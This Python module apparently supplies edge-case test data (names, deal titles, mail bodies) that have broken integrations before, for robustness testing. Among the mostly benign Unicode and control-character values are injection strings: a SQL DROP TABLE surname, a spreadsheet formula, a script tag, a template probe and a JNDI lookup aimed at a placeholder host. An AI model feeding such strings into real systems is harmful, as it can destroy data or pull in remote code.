"""Names and texts that have broken integrations before: they appear in every demo org, whatever its seed.

Belongs here: the odd values as data. Does not: deciding which record gets one.
"""

from __future__ import annotations

CONTACT_NAMES: tuple[tuple[str | None, str], ...] = (
    (None, "Reception"),
    ("Siobhán", "O’Brien"),
    ("Mary", "O'Brien"),
    ('Robert "Bob"', "Tables'); DROP TABLE contact;--"),
    ("Ana María", "Núñez de la Peña-García"),
    ("Zoë 🦊", "van der Bërg"),
    ("孔", "丘"),
    ("محمد", "العتيبي"),
    ("Jo", "X"),
    ("Null", "Null"),
    ("Nguye\u0302\u0303n", "Văn A"),  # ễ as three code points
    ("\u202eesreveR", "Right-to-left"),
    (None, "Wolfeschlegelsteinhausenbergerdorff" * 2 + " (Sr.)"),
    ("a\\b", "C:\\new\\table"),
    ("Trailing", "Comma, Inc."),
)
"""First name (null where Salesforce holds none) and last name."""

DEAL_NAMES: tuple[str, ...] = (
    "Müller & Söhne – Erweiterung „Süd“ 2. Stufe",
    'The "Big" One, take 2',
    "O'Reilly's renewal / FY+1",
    "株式会社 新規ライセンス 120席",
    "Expansion 🚀🚀 phase 2",
    "=SUM(A1:A9)",
    "Null",
    "0012345",
    "Comma, semicolon; tab\tand pipe |",
    "\\N",
    "Ｆｕｌｌ　ｗｉｄｔｈ",
    "Framework agreement " + "x" * 100,
)
"""Names of deals, none longer than the 120 characters that Salesforce holds."""

BODIES: tuple[str, ...] = (
    "A NUL in the middle: \x00 and here the text goes on.",
    "Written out, not the character itself: \\u0000 and \\\\u0000 and \\x00.",
    "A line separator:\u2028and a paragraph separator:\u2029and a next line:\x85end.",
    '"Quotes", ""doubled"", \'single\', `back`, “curly”, and a lone one: "',
    "\\N\n\\.\n\\t\nlines that a COPY in text format would misread",
    "Tabs\tand\x0bvertical tabs\x0cform feeds\x07bells\x1bescapes",
    "\ufeffA byte order mark, zero\u200bwidth\u200bspaces, soft\u00adhyphens, \u202ertl override\u202c.",
    "Emoji 👩🏽‍💻🇺🇳, surrogate pairs 𝒜𝓃𝓎, combining a\u0301e\u0302\u0303, and ﷽.",
    "Old Mac\rline\rbreaks\rand Windows\r\nones\r\nand Unix\nones",
    "<script>alert('not run')</script> & &amp; &#0; <![CDATA[ ]]> {{ 7*7 }} ${jndi:ldap://host.invalid/x}",
    '\',"\',"\n,,,,\n"""\n',
)
"""Bodies of mails; the first holds a NUL character, which Postgres cannot store."""
